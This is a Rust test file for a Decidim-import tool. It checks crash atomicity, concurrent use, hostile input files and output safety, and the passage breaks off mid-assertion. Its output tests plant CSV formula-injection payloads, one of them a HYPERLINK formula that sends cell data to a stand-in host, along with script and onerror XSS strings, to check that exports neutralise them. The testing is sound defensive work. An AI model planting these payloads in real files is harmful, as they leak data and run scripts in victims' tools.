//! Issue 7, reliability: the process killed (SIGKILL) in the middle of a large import or of a
//! bulk response leaves the batch wholly present or wholly absent; two users at once both get
//! their work done; hostile files (huge cells, 100,000 columns, very long lines, NUL bytes,
//! invalid UTF-8, a file that grows while it is read, a quote that never closes) give a clear
//! error or a correct import, in bounded memory, never a panic; every CSV and HTML the tool
//! writes is safe to open.
//!
//! Sizes are chosen for `cargo test` in debug on two cores: the crash test takes about half a
//! minute. `AGENDA_CRASH_ROWS` and `AGENDA_CRASH_KILLS` make it heavier on request.

use std::fs::File;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use crate::common::Env;

// ---------------------------------------------------------------------------------------------
// Helpers: a Decidim-shaped export, running the binary with its peak memory, the database.

/// A small deterministic generator (xorshift), so that every run kills at the same moments.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list[(self.next() % list.len() as u64) as usize]
    }
    /// A fraction in [0, 1).
    fn fraction(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
}

const DECIDIM_HEADER: &str = "id;category/id;category/name/it;scope/id;scope/name/it;participatory_space/id;participatory_space/url;component/id;title/it;body/it;address;latitude;longitude;state;reference;answer/it;supports;endorsements/total_count;endorsements/user_endorsements;comments;attachments;followers;published_at;url;meeting_urls;related_proposals;is_amend;original_proposal/title;original_proposal/url";

const SUBJECTS: &[&str] = &[
    "Attivare lo SPID",
    "Prenotare gli appuntamenti all'anagrafe",
    "Pagare la mensa con pagoPA",
    "Wi-Fi gratuito nei parchi",
    "Corsi di informatica per anziani",
    "Dati aperti sul traffico",
    "Fibra ottica nelle scuole",
];
const PLACES: &[&str] = &[
    "al Macrolotto",
    "in Piazza Mercatale",
    "a San Paolo",
    "al Parco di Galceti",
    "nelle frazioni",
];
const SENTENCES: &[&str] = &[
    "Molti cittadini, soprattutto le persone anziane, non riescono a completare la procedura da soli.",
    "Sarebbe utile un punto di assistenza aperto anche il sabato, vicino alle fermate dell&#39;autobus.",
    "Il servizio esiste gi&agrave; ma &egrave; poco conosciuto: andrebbe promosso nelle biblioteche.",
    "Le famiglie straniere hanno bisogno di istruzioni in pi&ugrave; lingue.",
    "La connessione &egrave; lenta: serve una rete pi&ugrave; robusta &amp; affidabile.",
];
const AXES: &[&str] = &["Semplificazione", "Competenze", "Nuovi servizi", ""];

/// The reference of the proposal numbered `id`.
fn reference(id: u64) -> String {
    format!("PO-PROP-2021-10-{id}")
}

/// One proposal as Decidim exports it (about 600 bytes, an HTML body on two lines).
fn decidim_row(id: u64) -> String {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15 ^ (id.wrapping_mul(0x2545_F491_4F6C_DD1D) | 1));
    let axis = rng.pick(AXES);
    let title = format!("{} {} ({id})", rng.pick(SUBJECTS), rng.pick(PLACES));
    let body = format!(
        "<p>{}</p>\n<p>{} {}</p>",
        rng.pick(SENTENCES),
        rng.pick(SENTENCES),
        rng.pick(SENTENCES)
    );
    format!(
        "{id};41;{axis};;;14;https://partecipo.comune.prato.it/processes/agenda-digitale;82;{title};\"{body}\";;;;evaluating;{reference};;{sup};{end};;{com};0;0;2021-10-{day:02} 10:{min:02}:00 +0200;https://partecipo.comune.prato.it/processes/agenda-digitale/f/82/proposals/{id};;;false;;\n",
        reference = reference(id),
        sup = rng.next() % 200,
        end = rng.next() % 40,
        com = rng.next() % 15,
        day = 1 + rng.next() % 28,
        min = rng.next() % 60,
    )
}

/// Writes a Decidim export of the proposals numbered `ids`.
fn write_export(path: &Path, ids: std::ops::Range<u64>) {
    let mut out = std::io::BufWriter::new(File::create(path).unwrap());
    writeln!(out, "{DECIDIM_HEADER}").unwrap();
    for id in ids {
        out.write_all(decidim_row(id).as_bytes()).unwrap();
    }
    out.flush().unwrap();
}

/// Writes a response file answering every proposal numbered `ids`.
fn write_responses(path: &Path, ids: std::ops::Range<u64>) {
    let mut out = std::io::BufWriter::new(File::create(path).unwrap());
    writeln!(out, "ref;outcome;reason").unwrap();
    for id in ids {
        writeln!(
            out,
            "{};non-pertinente;La proposta {id} riguarda un servizio che non fa parte dell'Agenda digitale.",
            reference(id)
        )
        .unwrap();
    }
    out.flush().unwrap();
}

fn agenda_bin() -> &'static str {
    env!("CARGO_BIN_EXE_agenda")
}

/// The binary as a plain process, in `dir`, with the settings of the harness.
fn command(dir: &Path, args: &[&str]) -> Command {
    let mut cmd = Command::new(agenda_bin());
    cmd.current_dir(dir)
        .env_remove("AGENDA_DB")
        .env("AGENDA_LANG", "en")
        .env_remove("AGENDA_YES")
        .env_remove("AGENDA_NOW")
        .env_remove("AGENDA_BUSY_TIMEOUT")
        .env("AGENDA_USER", "collaudo")
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .args(args);
    cmd
}

/// What a finished process did.
struct Outcome {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    peak_mib: f64,
}

impl Outcome {
    /// Never a panic, whatever the input.
    fn assert_no_panic(&self) -> &Self {
        assert!(
            !self.stderr.contains("panicked") && !self.stderr.contains("RUST_BACKTRACE"),
            "the command panicked:\n{}",
            self.stderr
        );
        self
    }
    fn assert_code(&self, code: i32) -> &Self {
        self.assert_no_panic();
        assert_eq!(
            self.code,
            Some(code),
            "exit code; stderr:\n{}",
            truncated(&self.stderr)
        );
        self
    }
    fn assert_peak_below(&self, mib: f64) -> &Self {
        eprintln!("peak memory {:.0} MiB", self.peak_mib);
        assert!(
            self.peak_mib < mib,
            "peak memory {:.0} MiB, expected below {mib} MiB",
            self.peak_mib
        );
        self
    }
}

fn truncated(text: &str) -> String {
    text.chars().take(2000).collect()
}

/// Runs the command to its end and measures its peak resident memory: the child's `VmHWM`
/// in `/proc`, sampled every 2 ms. Not `wait4`'s `ru_maxrss`: a child started by
/// `posix_spawn` (vfork) shares this process's memory until its exec, and Linux records the
/// high-water mark of that memory in the child's `ru_maxrss` at the exec; the other tests of
/// this binary hold tens of MiB, so the figure would be theirs. Output goes through files, so
/// no pipe can fill up.
fn run_measured(cmd: &mut Command, scratch: &Path) -> Outcome {
    let out_path = scratch.join("stdout.txt");
    let err_path = scratch.join("stderr.txt");
    cmd.stdout(File::create(&out_path).unwrap())
        .stderr(File::create(&err_path).unwrap());
    // spawn returns once the child has exec'd: from here on /proc shows agenda's own memory.
    let mut child = cmd.spawn().expect("start agenda");
    let status_file = format!("/proc/{}/status", child.id());
    let mut peak_kib = 0u64;
    let status = loop {
        if let Ok(text) = std::fs::read_to_string(&status_file) {
            let hwm = text
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok());
            peak_kib = peak_kib.max(hwm.unwrap_or(0));
        }
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        std::thread::sleep(Duration::from_millis(2));
    };
    Outcome {
        code: status.code(),
        stdout: String::from_utf8_lossy(&std::fs::read(&out_path).unwrap()).into_owned(),
        stderr: String::from_utf8_lossy(&std::fs::read(&err_path).unwrap()).into_owned(),
        peak_mib: peak_kib as f64 / 1024.0,
    }
}

/// Runs `agenda ARGS` in the folder of `env` and measures it.
fn run(env: &Env, args: &[&str]) -> Outcome {
    let scratch = tempfile::tempdir().unwrap();
    run_measured(&mut command(env.dir.path(), args), scratch.path())
}

fn conn(db: &Path) -> rusqlite::Connection {
    rusqlite::Connection::open(db).expect("open the database")
}

fn count(db: &Path, sql: &str) -> i64 {
    conn(db).query_row(sql, [], |r| r.get(0)).unwrap()
}

fn integrity(db: &Path) -> String {
    conn(db)
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap()
}

/// A database in Fase 2 in `dir`, ready for imports (no cards: the tests do not need them).
fn collecting_db(dir: &Path) {
    for args in [
        &["init", "--date", "2021-09-01"][..],
        &["phase", "advance", "--date", "2021-10-01"][..],
    ] {
        let out = command(dir, args).output().unwrap();
        assert!(out.status.success(), "agenda {args:?} failed");
    }
}

/// Copies a closed database (and its WAL, if one is left) over another.
fn copy_db(from: &Path, to: &Path) {
    for suffix in ["-wal", "-shm"] {
        let _ = std::fs::remove_file(with_suffix(to, suffix));
    }
    std::fs::copy(from, to).unwrap();
    if with_suffix(from, "-wal").exists() {
        std::fs::copy(with_suffix(from, "-wal"), with_suffix(to, "-wal")).unwrap();
    }
}

fn with_suffix(path: &Path, suffix: &str) -> PathBuf {
    let mut s = path.as_os_str().to_owned();
    s.push(suffix);
    PathBuf::from(s)
}

fn env_number(name: &str, default: u64) -> u64 {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

// ---------------------------------------------------------------------------------------------
// Crash safety.

/// What one killed command left behind.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Left {
    /// Killed before its commit: nothing of it is in the database.
    Nothing,
    /// Killed after its commit (or it had finished): all of it is.
    All,
}

/// Starts `args` in `dir`, kills it with SIGKILL after `after`, and reaps it. Returns whether
/// it had already finished.
fn kill_after(dir: &Path, args: &[&str], after: Duration) -> bool {
    let mut child = command(dir, args)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start agenda");
    std::thread::sleep(after);
    let finished = child.try_wait().unwrap().is_some();
    // Child::kill sends SIGKILL: no destructor, no rollback, no checkpoint runs.
    let _ = child.kill();
    child.wait().unwrap();
    finished
}

/// After a killed import: the database is sound, and the batch is all there or not at all.
fn check_import_left(db: &Path, rows: i64) -> Left {
    assert_eq!(integrity(db), "ok", "integrity_check after SIGKILL");
    let c = conn(db);
    let one = |sql: &str| -> i64 { c.query_row(sql, [], |r| r.get(0)).unwrap() };
    let suggestions = one("SELECT count(*) FROM suggestions");
    let batches = one("SELECT count(*) FROM import_batches");
    let sources = one("SELECT count(*) FROM suggestion_sources");
    let audit = one("SELECT count(*) FROM audit_log WHERE action = 'suggestion.import'");
    assert_eq!(
        c.query_row("PRAGMA foreign_key_check", [], |_| Ok(()))
            .map(|_| 1)
            .unwrap_or_else(|_| 0),
        0,
        "foreign keys after SIGKILL"
    );
    if suggestions == 0 {
        assert_eq!((batches, sources, audit), (0, 0, 0), "a partial batch");
        Left::Nothing
    } else {
        assert_eq!(suggestions, rows, "a partial import survived SIGKILL");
        assert_eq!((batches, audit), (1, 1), "batch and audit entry");
        assert_eq!(
            one("SELECT inserted FROM import_batches"),
            rows,
            "the batch's counts"
        );
        Left::All
    }
}

/// After a killed bulk response: sound, and every response there or none.
fn check_respond_left(db: &Path, rows: i64) -> Left {
    assert_eq!(integrity(db), "ok", "integrity_check after SIGKILL");
    let responses = count(db, "SELECT count(*) FROM responses");
    let current = count(db, "SELECT count(*) FROM responses WHERE current = 1");
    let audit = count(
        db,
        "SELECT count(*) FROM audit_log WHERE action = 'suggestion.respond'",
    );
    assert_eq!(responses, current);
    assert_eq!(responses, audit, "responses and their audit entries");
    if responses == 0 {
        Left::Nothing
    } else {
        assert_eq!(responses, rows, "a partial bulk response survived SIGKILL");
        Left::All
    }
}

/// The next commands work after a kill: `status`, then the same command again.
fn next_commands_work(dir: &Path, again: &[&str]) -> f64 {
    let status = command(dir, &["status"]).output().unwrap();
    assert!(
        status.status.success(),
        "agenda status after SIGKILL: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    let start = Instant::now();
    let out = command(dir, again).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{again:?} after SIGKILL: {stderr}");
    assert!(!stderr.contains("panicked"));
    start.elapsed().as_secs_f64()
}

#[test]
fn sigkill_during_a_large_import_or_a_bulk_response_leaves_all_or_nothing() {
    let rows = env_number("AGENDA_CRASH_ROWS", 4000);
    let kills = env_number("AGENDA_CRASH_KILLS", 24);
    let env = Env::empty();
    let export = env.path("proposte.csv");
    let answers = env.path("risposte.csv");
    write_export(&export, 100_000..100_000 + rows);
    write_responses(&answers, 100_000..100_000 + rows);
    let export = export.to_str().unwrap().to_string();
    let answers = answers.to_str().unwrap().to_string();
    let import: Vec<&str> = vec!["--quiet", "suggestion", "import", &export];
    let respond: Vec<&str> = vec!["--quiet", "suggestion", "respond", "--from", &answers];

    // The starting points: Fase 2 and empty; the same with the export imported. Their run
    // times are the first measure of each command's duration.
    let empty = env.path("empty.db");
    let imported = env.path("imported.db");
    let setup = env.path("setup");
    std::fs::create_dir(&setup).unwrap();
    collecting_db(&setup);
    copy_db(&setup.join("agenda.db"), &empty);
    let started = Instant::now();
    assert!(command(&setup, &import).status().unwrap().success());
    let import_seconds = started.elapsed().as_secs_f64();
    copy_db(&setup.join("agenda.db"), &imported);

    let rows = rows as i64;
    // Kills spread over the whole command (and a little after it), at moments drawn from a
    // fixed seed and scaled by the latest measure of how long the command takes.
    let rounds = |name: &str,
                  start_from: &Path,
                  args: &[&str],
                  first_measure: f64,
                  check: fn(&Path, i64) -> Left,
                  seed: u64,
                  n: u64| {
        let dir = env.path(name);
        std::fs::create_dir(&dir).unwrap();
        let db = dir.join("agenda.db");
        let mut rng = Rng(seed);
        let mut duration = first_measure;
        let mut seen = Vec::new();
        for _ in 0..n {
            copy_db(start_from, &db);
            let at = Duration::from_secs_f64(rng.fraction() * 1.15 * duration);
            kill_after(&dir, args, at);
            let left = check(&db, rows);
            let seconds = next_commands_work(&dir, args);
            if left == Left::Nothing {
                // The command ran whole again: the freshest measure of its duration.
                duration = seconds;
            }
            assert_eq!(check(&db, rows), Left::All, "{name}: after running again");
            seen.push((at.as_millis(), left));
        }
        eprintln!("{name}: kills (ms, outcome): {seen:?}");
        seen
    };
    // Import and respond rounds run side by side, one a core.
    let (imports, responds) = std::thread::scope(|s| {
        let imports = s.spawn(|| {
            rounds(
                "imports",
                &empty,
                &import,
                import_seconds,
                check_import_left,
                0x5052_4154_4f21,
                kills.div_ceil(2),
            )
        });
        let responds = s.spawn(|| {
            // The first measure of a bulk response: one run on the imported database.
            let dir = env.path("measure-respond");
            std::fs::create_dir(&dir).unwrap();
            copy_db(&imported, &dir.join("agenda.db"));
            let started = Instant::now();
            assert!(command(&dir, &respond).status().unwrap().success());
            let respond_seconds = started.elapsed().as_secs_f64();
            assert_eq!(check_respond_left(&dir.join("agenda.db"), rows), Left::All);
            rounds(
                "responds",
                &imported,
                &respond,
                respond_seconds,
                check_respond_left,
                0x4147_454e_4441,
                kills / 2,
            )
        });
        (imports.join().unwrap(), responds.join().unwrap())
    });
    assert!(imports.len() + responds.len() >= 20);
    // The kills must have hit the commands while they worked, not only before or after.
    for (name, seen) in [("import", &imports), ("respond", &responds)] {
        assert!(
            seen.iter().any(|(_, left)| *left == Left::Nothing),
            "no {name} was killed before its commit: {seen:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Concurrent users.

/// Whether another process holds SQLite's WAL write lock on `db`: the byte at offset 120 of
/// the `-shm` file (the first lock slot), which a writer locks for its whole transaction.
/// Only looks (F_GETLK): takes no lock, so it cannot get in the way.
fn writer_holds_lock(db: &Path) -> bool {
    use std::os::unix::io::AsRawFd;
    let Ok(shm) = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .open(with_suffix(db, "-shm"))
    else {
        return false;
    };
    let mut lock: libc::flock = unsafe { std::mem::zeroed() };
    lock.l_type = libc::F_WRLCK as libc::c_short;
    lock.l_whence = libc::SEEK_SET as libc::c_short;
    lock.l_start = 120;
    lock.l_len = 1;
    // SAFETY: fcntl on an open descriptor with a valid pointer to a local.
    let r = unsafe { libc::fcntl(shm.as_raw_fd(), libc::F_GETLK, &mut lock) };
    r == 0 && lock.l_type != libc::F_UNLCK as libc::c_short
}

#[test]
fn two_users_at_once_both_succeed_and_nothing_is_lost() {
    let env = Env::empty();
    collecting_db(env.dir.path());
    // Suggestions already there, which the second user answers while the first imports.
    let earlier = env.path("prima.csv");
    write_export(&earlier, 1..301);
    let large = env.path("grande.csv");
    write_export(&large, 10_000..18_000);
    let other = env.path("altra.csv");
    write_export(&other, 20_000..20_400);
    let answers = env.path("risposte.csv");
    write_responses(&answers, 1..301);
    let path = |p: &PathBuf| p.to_str().unwrap().to_string();
    assert_eq!(
        run(&env, &["--quiet", "suggestion", "import", &path(&earlier)]).code,
        Some(0)
    );

    let dir = env.dir.path();
    let spawn = |args: &[&str], name: &str| {
        command(dir, args)
            .env("AGENDA_BUSY_TIMEOUT", "600")
            .stdout(Stdio::null())
            .stderr(File::create(dir.join(name)).unwrap())
            .spawn()
            .unwrap()
    };
    let mut first = spawn(
        &["--quiet", "suggestion", "import", &path(&large)],
        "first.err",
    );
    // Start the others only once the import holds the write lock, so they must wait for it:
    // held for 300 ms on end, which the brief lock of opening the database never is.
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut held_since = None;
    loop {
        assert!(
            first.try_wait().unwrap().is_none(),
            "the import ended before the others started"
        );
        assert!(Instant::now() < deadline, "the import never took the lock");
        if writer_holds_lock(&env.db()) {
            let since = *held_since.get_or_insert_with(Instant::now);
            if since.elapsed() >= Duration::from_millis(300) {
                break;
            }
        } else {
            held_since = None;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    let mut responder = spawn(
        &["suggestion", "respond", "--from", &path(&answers)],
        "respond.err",
    );
    let mut importer = spawn(
        &["--quiet", "suggestion", "import", &path(&other)],
        "import.err",
    );
    for (child, name) in [
        (&mut first, "first.err"),
        (&mut responder, "respond.err"),
        (&mut importer, "import.err"),
    ] {
        let status = child.wait().unwrap();
        let stderr = std::fs::read_to_string(dir.join(name)).unwrap();
        assert!(status.success(), "{name}: {stderr}");
        assert!(!stderr.contains("panicked"), "{stderr}");
        if name != "first.err" {
            assert!(
                stderr.contains("waiting: another agenda command is writing"),
                "{name} should say it waits: {stderr}"
            );
        }
    }
    // No lost update: every batch and every response is there.
    let db = env.db();
    assert_eq!(
        count(&db, "SELECT count(*) FROM suggestions"),
        300 + 8000 + 400
    );
    assert_eq!(count(&db, "SELECT count(*) FROM import_batches"), 3);
    assert_eq!(
        count(&db, "SELECT count(*) FROM responses WHERE current = 1"),
        300
    );
    assert_eq!(integrity(&db), "ok");
}

// ---------------------------------------------------------------------------------------------
// Hostile files: a clear error or a correct import, in bounded memory, never a panic.

/// A database in Fase 2, ready for imports.
fn importing() -> Env {
    let env = Env::empty();
    collecting_db(env.dir.path());
    env
}

/// Imports a file that must be refused: exit 3, a message naming the file (and where), and
/// nothing written.
fn refused_import(env: &Env, file: &str) -> Outcome {
    let before = env.snapshot();
    let out = run(env, &["suggestion", "import", file]);
    out.assert_code(3);
    assert_eq!(env.snapshot(), before, "a refused import wrote something");
    out
}

#[test]
fn a_10_mb_cell_is_imported_in_bounded_memory() {
    let env = importing();
    let mut cell = String::with_capacity(10 << 20);
    let mut n = 0;
    while cell.len() < 10 << 20 {
        cell.push_str(&format!("parola{n} \"citata\" e ancora, testo; "));
        if n % 1000 == 999 {
            cell.push('\n');
        }
        n += 1;
    }
    let quoted = cell.replace('"', "\"\"");
    let file = env.write(
        "cella-enorme.csv",
        format!(
            "titolo;proposta\nBreve;Una proposta normale\nEnorme;\"{quoted}\"\nDopo;Ancora una\n"
        ),
    );
    let out = run(&env, &["--quiet", "suggestion", "import", &file]);
    out.assert_code(0).assert_peak_below(200.0);
    let body: String = conn(&env.db())
        .query_row(
            "SELECT body FROM suggestions WHERE title = 'Enorme'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(body, cell.trim());
    assert_eq!(count(&env.db(), "SELECT count(*) FROM suggestions"), 3);
}

#[test]
fn a_hundred_thousand_columns_import_and_a_missing_title_says_so_briefly() {
    let env = importing();
    let columns = 100_000;
    let mut header = String::from("titolo;proposta");
    for i in 3..=columns {
        header.push_str(&format!(";colonna {i}"));
    }
    let mut file = header.clone();
    file.push('\n');
    for row in 0..3 {
        file.push_str(&format!("Titolo {row};Testo {row}"));
        file.push_str(&";x".repeat(columns - 2));
        file.push('\n');
    }
    let wide = env.write("larga.csv", &file);
    let out = run(&env, &["--quiet", "suggestion", "import", &wide]);
    out.assert_code(0).assert_peak_below(200.0);
    assert_eq!(count(&env.db(), "SELECT count(*) FROM suggestions"), 3);

    // Without a title or body column the error lists the columns, but not all 100,000.
    let untitled = env.write(
        "senza-titolo.csv",
        file.replacen("titolo;proposta", "a;b", 1),
    );
    let out = refused_import(&env, &untitled);
    assert!(
        out.stderr
            .contains("senza-titolo.csv:1: no column holds a title or a body"),
        "{}",
        truncated(&out.stderr)
    );
    assert!(out.stderr.contains("… and 99970 more"), "{}", out.stderr);
    assert!(out.stderr.len() < 10_000, "{} bytes", out.stderr.len());
}

#[test]
fn very_long_lines_are_imported_or_refused_with_their_line() {
    let env = importing();
    // A 16 MB line: one unquoted cell.
    let long = "lungo ".repeat((16 << 20) / 6);
    let file = env.write(
        "riga-lunga.csv",
        format!("titolo;proposta\nPrima;Testo\nLunga;{long}\n"),
    );
    let out = run(&env, &["--quiet", "suggestion", "import", &file]);
    out.assert_code(0).assert_peak_below(200.0);
    assert_eq!(count(&env.db(), "SELECT count(*) FROM suggestions"), 2);

    // A line of a million fields where the header has two: refused, with its line.
    let ragged = env.write(
        "riga-sfrangiata.csv",
        format!(
            "titolo;proposta\nPrima;Testo\nSeconda;Testo\nTroppi;{}\n",
            "x;".repeat(1_000_000)
        ),
    );
    let out = refused_import(&env, &ragged);
    out.assert_peak_below(200.0);
    assert!(
        out.stderr
            .contains("riga-sfrangiata.csv:4: 1000002 fields, but the header has 2"),
        "{}",
        truncated(&out.stderr)
    );
}

#[test]
fn nul_bytes_are_refused_with_line_and_byte() {
    let env = importing();
    let file = env.write(
        "nul.csv",
        b"titolo;proposta\nPrima;Testo\nSeconda;Te\x00sto\n".as_slice(),
    );
    let out = refused_import(&env, &file);
    assert!(
        out.stderr.contains("nul.csv:3: byte 38 is a NUL"),
        "{}",
        out.stderr
    );
}

#[test]
fn invalid_utf8_in_mid_file_is_refused_with_line_and_byte() {
    let env = importing();
    let mut bytes = b"titolo;proposta\n".to_vec();
    for i in 0..2000 {
        bytes.extend_from_slice(format!("Proposta {i};Perché è utile a tutti\n").as_bytes());
    }
    let bad_at = bytes.len() + "Rotta;caff".len();
    bytes.extend_from_slice(b"Rotta;caff\xff\n");
    for i in 0..100 {
        bytes.extend_from_slice(format!("Dopo {i};Ancora\n").as_bytes());
    }
    let file = env.write("misto.csv", &bytes);
    let out = refused_import(&env, &file);
    let expected = format!("misto.csv:2002: byte {bad_at} (0xFF) is not valid UTF-8");
    assert!(out.stderr.contains(&expected), "{}", out.stderr);
    let out = run(
        &env,
        &["suggestion", "import", "--encoding", "utf-8", &file],
    );
    out.assert_code(3);
    assert!(out.stderr.contains(&expected), "{}", out.stderr);
}

#[test]
fn a_file_that_grows_while_it_is_read_is_refused_or_read_as_one_snapshot() {
    let env = importing();
    let path = env.path("in-crescita.csv");
    write_export(&path, 1..3001);
    let file = path.to_str().unwrap().to_string();
    let stop = AtomicBool::new(false);
    let out = std::thread::scope(|s| {
        // Someone keeps appending whole rows, one every millisecond, while the import runs.
        let appender = s.spawn(|| {
            let mut f = std::fs::OpenOptions::new()
                .append(true)
                .open(&path)
                .unwrap();
            let mut id = 50_000;
            while !stop.load(Ordering::Relaxed) {
                f.write_all(decidim_row(id).as_bytes()).unwrap();
                id += 1;
                std::thread::sleep(Duration::from_millis(1));
            }
            id - 50_000
        });
        let out = run(&env, &["--quiet", "suggestion", "import", &file]);
        stop.store(true, Ordering::Relaxed);
        let appended = appender.join().unwrap();
        assert!(appended > 0);
        out
    });
    out.assert_no_panic();
    eprintln!("a growing file: exit {:?}, {}", out.code, out.stderr.trim());
    let db = env.db();
    match out.code {
        Some(3) => {
            assert!(
                out.stderr
                    .contains("in-crescita.csv: the file changed while it was being read")
                    && out.stderr.contains("nothing was written"),
                "{}",
                out.stderr
            );
            assert_eq!(count(&db, "SELECT count(*) FROM import_batches"), 0);
            assert_eq!(count(&db, "SELECT count(*) FROM suggestions"), 0);
        }
        Some(0) => {
            // A snapshot: whole rows only, as many as the batch says.
            let batch: i64 = count(&db, "SELECT inserted FROM import_batches");
            assert!(batch >= 3000);
            assert_eq!(count(&db, "SELECT count(*) FROM suggestions"), batch);
        }
        other => panic!("exit {other:?}: {}", out.stderr),
    }
}

#[test]
fn an_unterminated_quote_in_a_large_file_is_refused_in_bounded_memory() {
    let env = importing();
    let path = env.path("virgolette.csv");
    let mut out = std::io::BufWriter::new(File::create(&path).unwrap());
    out.write_all(b"titolo;proposta\n").unwrap();
    for i in 0..100 {
        writeln!(out, "Riga {i};Testo {i}").unwrap();
    }
    out.write_all(b"Aperta;\"comincia qui e non finisce\n")
        .unwrap();
    // 70 MB after the quote: more than the 64 MiB a record may hold.
    let line = format!("{}\n", "x".repeat(99));
    let block = line.repeat(10_000);
    for _ in 0..70 {
        out.write_all(block.as_bytes()).unwrap();
    }
    out.flush().unwrap();
    drop(out);
    let out = refused_import(&env, path.to_str().unwrap());
    out.assert_peak_below(200.0);
    assert!(
        out.stderr.contains(
            "virgolette.csv:102: the record that starts on this line is longer than 64 MiB"
        ),
        "{}",
        out.stderr
    );
}

// ---------------------------------------------------------------------------------------------
// Output safety.

/// The payloads that make a spreadsheet run a formula, or cells that begin with one once
/// trimmed.
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"clic\")",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
];

/// Every cell of every CSV record in `text` must not start with a formula character.
fn assert_csv_neutralised(what: &str, text: &str) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(if text.lines().next().unwrap_or("").contains(';') {
            b';'
        } else {
            b','
        })
        .from_reader(text.as_bytes());
    let mut guarded = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a formula-like cell is not neutralised: {cell:?}"
            );
            if cell.starts_with("'=") || cell.starts_with("'+") || cell.starts_with("'@") {
                guarded += 1;
            }
        }
    }
    assert!(guarded > 0, "{what}: the payloads are not in the output");
}

/// A database whose cards, suggestions and responses carry every payload.
fn hostile_data() -> Env {
    let env = Env::empty();
    let dir = env.dir.path();
    let ok = |args: &[&str]| {
        let out = command(dir, args).output().unwrap();
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    ok(&["init", "--date", "2021-09-01"]);
    let description = format!("{} <script>alert('scheda')</script>", FORMULAS[1]);
    ok(&[
        "card",
        "add",
        "--code",
        "SEM-99",
        "--title",
        FORMULAS[0],
        "--axis",
        "semplificazione",
        "--status",
        "in-corso",
        "--description",
        &description,
        &format!("--objectives={}", FORMULAS[2]),
        "--office",
        FORMULAS[3],
        "--partners",
        FORMULAS[4],
        "--funding",
        FORMULAS[5],
        "--indicator=-1 <b>grassetto</b>",
    ]);
    ok(&["phase", "advance", "--date", "2021-10-01"]);
    // Titles as Decidim sends them: HTML entities that decode to markup, and formulas.
    let titles = [
        FORMULAS[0].replace('"', "\"\""),
        FORMULAS[1].into(),
        FORMULAS[2].into(),
        FORMULAS[3].into(),
        "&lt;script&gt;alert(1)&lt;/script&gt; e &lt;img src=x onerror=alert(2)&gt;".into(),
    ];
    let mut file = String::from("id;title/it;body/it;reference;state\n");
    for (i, title) in titles.iter().enumerate() {
        file.push_str(&format!(
            "{n};\"{title}\";\"<p>testo</p>\";PO-{n};evaluating\n",
            n = i + 1
        ));
    }
    let export = env.write("ostile.csv", file);
    ok(&["suggestion", "import", &export]);
    let reasons = [
        FORMULAS[0],
        FORMULAS[3],
        "-2+3 <script>alert('motivo')</script>",
        "\t=1+1",
        "=HYPERLINK(\"x\") <img src=x onerror=alert(3)>",
    ];
    for (i, reason) in reasons.iter().enumerate() {
        let id = format!("PO-{}", i + 1);
        let reason = format!("--reason={reason}");
        if i == 1 {
            ok(&[
                "suggestion",
                "respond",
                &id,
                "--outcome",
                "gia-previsto",
                "--card",
                "SEM-99",
                &reason,
            ]);
        } else {
            ok(&[
                "suggestion",
                "respond",
                &id,
                "--outcome",
                "non-accolto",
                &reason,
            ]);
        }
    }
    env
}

#[test]
fn every_csv_the_tool_writes_neutralises_formulas() {
    let env = hostile_data();
    let csv_out = |args: &[&str]| -> String {
        let out = run(&env, args);
        out.assert_code(0);
        out.stdout
    };
    assert_csv_neutralised("card export", &csv_out(&["card", "export"]));
    assert_csv_neutralised(
        "suggestion list --format csv",
        &csv_out(&["suggestion", "list", "--format", "csv"]),
    );
    // The answers for Decidim are the one exception: Decidim publishes a cell as typed, `'`
    // included, and never opens it as a spreadsheet; the answer is HTML inside `<p>`, so no
    // cell can start with a formula character (tests/agenda/decidim.rs).
    let answers = csv_out(&["suggestion", "export-answers"]);
    for record in csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(answers.as_bytes())
        .records()
    {
        let record = record.unwrap();
        assert!(record[0].bytes().all(|b| b.is_ascii_digit()), "{record:?}");
        assert!(record[2].starts_with("<p>"), "{record:?}");
    }
    // The annexes of the report, one CSV file each.
    let out = run(
        &env,
        &[
            "report",
            "--draft",
            "--date",
            "2021-12-02",
            "--format",
            "csv",
            "--out",
            "annessi",
        ],
    );
    out.assert_code(0);
    let mut annexes = 0;
    for entry in std::fs::read_dir(env.path("annessi")).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        if text.contains("HYPERLINK") {
            assert_csv_neutralised(&path.display().to_string(), &text);
            annexes += 1;
        }
    }
    assert!(
